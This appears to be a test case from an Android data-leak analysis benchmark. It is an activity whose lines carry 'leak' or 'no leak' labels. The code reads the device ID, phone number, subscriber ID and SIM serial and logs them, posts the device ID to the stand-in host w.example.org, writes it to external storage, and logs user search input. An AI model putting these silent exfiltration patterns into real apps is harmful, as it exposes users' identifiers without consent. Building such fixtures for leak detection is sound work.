package ways;

import android.app.Activity;
import android.net.Uri;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.util.Log;
import android.widget.SearchView;
import android.view.KeyEvent;
import android.widget.EditText;
import android.widget.TextView;
import java.io.BufferedOutputStream;
import java.io.File;
import java.io.FileOutputStream;
import java.io.OutputStreamWriter;
import java.io.Writer;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.Optional;
import java.util.StringJoiner;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import java.util.zip.DeflaterOutputStream;

/** Addresses that are put together, streams on streams, what is typed to be searched. */
public class Written extends Activity implements SearchView.OnQueryTextListener, TextView.OnEditorActionListener {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SearchView search = new SearchView(this);
        search.setOnQueryTextListener(this);
        EditText field = new EditText(this);
        field.setOnEditorActionListener(this);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        Uri.Builder address = Uri.parse("https://w.example.org/").buildUpon();
        address.appendQueryParameter("id", phone.getDeviceId());
        Log.d("written", address.build().toString()); // leak
        Log.d("written", Uri.parse("https://w.example.org/").buildUpon().appendPath("x").build().toString()); // no leak
        StringJoiner joined = new StringJoiner(",");
        joined.add("a").add(phone.getLine1Number());
        Log.d("written", joined.toString()); // leak
        Optional<String> maybe = Optional.ofNullable(phone.getSubscriberId()).map(s -> s.trim()).filter(s -> !s.isEmpty());
        Log.d("written", maybe.orElse("none")); // leak
        Log.d("written", Stream.of("a", "b").map(s -> s.toUpperCase(Locale.US)).collect(Collectors.toList()).get(0)); // no leak
        Log.d("written", Stream.of(phone.getDeviceId()).map(s -> s + ";").collect(Collectors.toList()).get(0)); // leak
        String text = phone.getSimSerialNumber();
        String swapped = "";
        for (int i = text.length() - 1; i >= 0; i--) swapped += text.charAt(i);
        Log.d("written", swapped.isEmpty() ? "none" : swapped); // leak
        Log.d("written", text.isEmpty() ? "none" : "some"); // no leak
        new Thread(() -> {
            try {
                HttpURLConnection c = (HttpURLConnection) new URL("http://w.example.org/").openConnection();
                Writer out = new OutputStreamWriter(new DeflaterOutputStream(new BufferedOutputStream(c.getOutputStream())), StandardCharsets.UTF_8);
                out.append("none"); // no leak
                out.append(phone.getDeviceId()); // leak
                out.close();
                FileOutputStream file = new FileOutputStream(new File(getExternalFilesDir(null), "w.txt"), true);
                file.write(phone.getDeviceId().getBytes()); // leak
                file.close();
            } catch (Exception e) {
                finish();
            }
        }).start();
    }

    @Override
    public boolean onQueryTextSubmit(String query) {
        Log.d("written", "?q=" + query); // leak
        return true;
    }

    @Override
    public boolean onQueryTextChange(String text) {
        Log.d("written", "changed"); // no leak
        return false;
    }

    @Override
    public boolean onEditorAction(TextView view, int action, KeyEvent event) {
        Log.d("written", view.getText().toString()); // leak
        Log.d("written", "action " + action); // no leak
        return true;
    }
}
